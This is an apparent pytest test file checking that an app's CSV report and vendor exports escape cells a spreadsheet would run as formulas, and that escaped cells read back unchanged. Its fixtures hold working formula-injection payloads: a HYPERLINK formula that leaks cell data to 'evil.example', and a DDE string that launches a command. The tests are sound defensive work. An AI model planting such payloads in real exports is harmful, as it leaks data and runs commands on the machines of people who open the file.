"""Every CSV export quotes cells a spreadsheet would run as formulas (OWASP's rule), with
`=HYPERLINK(...)` in product, customer and vendor names, and reads back to the same data."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import Engine, update

from counter_app.adapters.db import tables as t
from counter_app.domain.spreadsheet import FORMULA_STARTS, csv_text, read_cell, safe_cell
from counter_app.services.reports import REPORTS, from_csv, run_report, to_csv
from counter_app.services.stock import vendor_csv, vendor_returns
from counter_app.services.unit_of_work import UnitOfWork
from tests.conftest import NOW
from tests.factories import Store
from tests.integration.test_reports import PERIOD, build_fixture

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")'
HOSTILE = {"product": LINK, "customer": "@SUM(1+1)*cmd|' /C calc'!A0", "vendor": "+" + LINK}


@pytest.fixture
def store(store_engine: Engine) -> Store:
    store = build_fixture(store_engine)
    with UnitOfWork(store_engine, write=True) as uow:
        uow.conn.execute(
            update(t.products).values(name=HOSTILE["product"], vendor=HOSTILE["vendor"])
        )
        uow.conn.execute(update(t.customers).values(name=HOSTILE["customer"]))
        uow.commit()
    return store


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(text: str) -> None:
    for cell in _cells(text):
        if cell.startswith(FORMULA_STARTS):
            float(cell)  # only a plain number ("-12.34") may start with "-"


def test_every_report_export_quotes_formulas(store: Store) -> None:
    seen: set[str] = set()
    for name in REPORTS:
        report = run_report(store.engine, name, PERIOD, store.policies.current, NOW)
        text = to_csv(report)
        _assert_no_formula(text)
        seen |= {c for c in _cells(text) if c.startswith("'")}
        assert from_csv(text, report.columns) == [
            {c.key: _as_exported(c.kind, r.get(c.key)) for c in report.columns} for r in report.rows
        ]
    assert "'" + HOSTILE["product"] in seen
    assert "'" + HOSTILE["customer"] in seen  # frequent returners lists customers


def _as_exported(kind: str, value: object) -> object:
    """What a cell reads back as (text columns come back as text)."""
    if kind == "text":
        return "" if value is None else str(value)
    if kind == "bool":
        return bool(value)
    if kind == "percent" and value is not None:
        return float(str(value))
    return value


def test_vendor_export_quotes_formulas(store: Store) -> None:
    lines = vendor_returns(store.engine)
    assert lines
    text = vendor_csv(lines)
    _assert_no_formula(text)
    row = next(csv.reader(io.StringIO(text.splitlines()[1])))
    assert row[0] == "'" + HOSTILE["vendor"] and row[2] == "'" + HOSTILE["product"]
    assert [read_cell(c) for c in row[:3]] == [HOSTILE["vendor"], lines[0].sku, HOSTILE["product"]]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # already quoted: one more, so reading back is exact
        ("-12.34", "-12.34"),  # a plain number is not a formula
        ("12", "12"),
        ("Desk Lamp", "Desk Lamp"),
        ("a=b", "a=b"),
        ("'plain", "'plain"),
        ("", ""),
    ],
)
def test_safe_cell(value: str, cell: str) -> None:
    assert safe_cell(value) == cell
    assert read_cell(cell) == value
    assert csv_text(["h"], [[value]]).splitlines()[0] == "h"
